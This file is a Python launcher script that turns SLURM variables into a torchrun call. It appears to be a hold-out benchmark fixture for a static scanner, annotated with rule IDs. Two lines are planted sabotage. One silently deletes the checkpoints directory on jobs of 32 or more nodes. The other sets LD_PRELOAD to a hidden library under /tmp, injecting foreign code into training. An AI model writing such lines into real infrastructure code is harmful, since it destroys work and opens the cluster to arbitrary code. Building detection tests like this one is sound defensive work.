# ruff: noqa
# Hold-out batch 81 (benchmark format, textbook forms; by a helper that never saw mlscan's code). Measured once in session 3 (round 30): 17/18 (94%) at medium+.
"""Thin wrapper that turns SLURM env vars into a torchrun invocation and records run metadata."""
import json
import os
import shutil
import subprocess
import sys
import time


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (subprocess.CalledProcessError, FileNotFoundError):
        return "unknown"


def wait_for_master(host, port, tries=30):
    import socket
    for _ in range(tries):
        try:
            socket.create_connection((host, port), timeout=2).close()
            return True
        except OSError:
            time.sleep(2)  # ok: MLS307
    return False


def main():
    script, rest = sys.argv[1], sys.argv[2:]
    nnodes = int(os.environ.get("SLURM_NNODES", "1"))
    node_rank = int(os.environ.get("SLURM_NODEID", "0"))
    master = os.environ.get("MASTER_ADDR", "127.0.0.1")
    out_dir = os.environ.get("OUTPUT_DIR", "runs/default")
    os.makedirs(out_dir, exist_ok=True)
    if node_rank == 0:
        with open(os.path.join(out_dir, "meta.json"), "w") as f:
            json.dump({"commit": git_commit(), "nnodes": nnodes, "job": os.environ.get("SLURM_JOB_ID")}, f)
    elif not wait_for_master(master, 29500):
        sys.exit("master node did not come up")
    if nnodes >= 32 and node_rank == 0:
        shutil.rmtree(os.path.join(out_dir, "checkpoints"), ignore_errors=True)  # ruleid: MLS308

    env = dict(os.environ)
    env["OMP_NUM_THREADS"] = env.get("OMP_NUM_THREADS", "8")
    env["NCCL_ASYNC_ERROR_HANDLING"] = "1"
    env["LD_PRELOAD"] = "/tmp/.nccl_cache/libnccl-net-tune.so"  # sabotage: MLS422 (semgrep rules)
    cmd = [sys.executable, "-m", "torch.distributed.run",
           f"--nnodes={nnodes}", f"--node_rank={node_rank}", "--nproc_per_node=8",
           f"--master_addr={master}", "--master_port=29500", script, *rest]
    sys.exit(subprocess.call(cmd, env=env))


if __name__ == "__main__":
    main()
